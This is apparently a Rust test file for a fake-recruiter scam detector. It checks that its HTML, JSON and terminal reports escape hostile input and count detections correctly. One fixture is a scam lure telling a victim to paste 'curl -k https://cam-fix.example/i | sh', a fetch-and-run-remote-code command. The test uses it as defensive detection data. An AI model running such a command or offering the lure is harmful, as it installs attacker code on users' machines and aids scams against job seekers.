//! Evaluations as pages and objects: what came from a file cannot become markup, and the numbers are those counted.

mod common;

use common::{detection, now};
use falseface::dossier::Locator;
use falseface::evaluation::{Evaluation, Labels, Settings, Tally, evaluate};
use falseface::report::{Style, evaluation_html, evaluation_json, evaluation_terminal};
use falseface::screen::Stages;
use falseface::screening::Summary;
use falseface::{Dossier, Options};
use std::sync::Arc;

const HOSTILE: &str = "<script>alert(1)</script>\u{202e}\u{1b}[31m";

/// Two people, one of whom asks for what only an impostor asks for; ids, languages and clusters are hostile.
fn evaluation() -> Evaluation {
    let lure = "Your camera is blocked. Open Terminal and paste this command: curl -k https://cam-fix.example/i | sh";
    let greeting = "Thank you for applying. Could we talk on Tuesday at ten?";
    let labels = format!(
        "id\tfake_recruiter\tcluster\tlanguage\n{HOSTILE}\t1\t{HOSTILE}\t{HOSTILE}\nquiet\t1\t\t\nloud\t0\t\t\n{HOSTILE}x\t0\t\t\n"
    );
    let rules = detection().rules.rules().iter().map(|rule| Arc::clone(&rule.info)).collect();
    let mut tally = Tally::new(rules, Some(Labels::parse(&labels).expect("labels")));
    let stages = Stages::new(detection());
    let options = Options::at(now());
    for (id, text) in [(HOSTILE, lure), ("quiet", greeting), ("loud", lure)] {
        let dossier: Dossier = serde_json::from_value(serde_json::json!({
            "schema": "falseface.dossier/1", "id": id, "role": "recruiter",
            "messages": [{ "from_subject": true, "text": text }],
        }))
        .expect("a dossier");
        tally.add(&stages.assess(&dossier, Locator::file("memory"), &options));
    }
    let settings = Settings { labels: Some(HOSTILE.to_owned()), prevalence: Some(0.01), worst: 10 };
    evaluate(tally, options.run(detection()), &Summary::default(), settings).expect("labelled")
}

#[test]
fn a_page_holds_no_markup_of_others_and_loads_nothing() {
    let mut bytes = Vec::new();
    evaluation_html(&mut bytes, &evaluation()).expect("memory takes everything");
    let page = String::from_utf8(bytes).expect("UTF-8");
    assert!(page.contains("default-src 'none'; style-src 'sha256-"), "a strict policy");
    for banned in ["<script", " style=", " onload", "src=", "href=", "url(", "@import", "\u{202e}", "\u{1b}"] {
        assert!(!page.contains(banned), "{banned:?} stands in the page");
    }
    assert!(page.contains("&lt;script&gt;"), "it is shown instead");
    for needed in [
        "<h1>",
        "<h2 id=\"fake_recruiter\">",
        "scope=\"col\"",
        "scope=\"row\"",
        "<figcaption>",
        "role=\"img\"",
        "prefers-color-scheme: dark",
    ] {
        assert!(page.contains(needed), "{needed} is missing");
    }
}

#[test]
fn an_object_says_what_was_counted() {
    let mut bytes = Vec::new();
    evaluation_json(&mut bytes, &evaluation()).expect("memory takes everything");
    let object: serde_json::Value = serde_json::from_slice(&bytes).expect("one object");
    assert_eq!(object["schema"], "falseface.evaluation/1");
    let detector = &object["detectors"]["fake_recruiter"];
    assert_eq!((&detector["positives"], &detector["negatives"]), (&2.into(), &1.into()));
    assert_eq!(detector["review"]["recall"]["estimate"], 0.5);
    assert_eq!(detector["misses"][0]["dossier"], "quiet");
    assert_eq!(detector["false_alarms"][0]["dossier"], "loud");
    assert_eq!(object["counts"]["labels_without_record"], 1);
    assert!(detector["review"]["precision"]["estimate"].as_f64().is_some_and(|share| share < 0.01));
}

#[test]
fn a_terminal_is_not_steered() {
    let mut bytes = Vec::new();
    evaluation_terminal(&mut bytes, &evaluation(), &Style::default()).expect("memory takes everything");
    let text = String::from_utf8(bytes).expect("UTF-8");
    assert!(text.chars().all(|character| character == '\n' || !character.is_control()), "{text}");
    assert!(!text.contains('\u{202e}'));
}
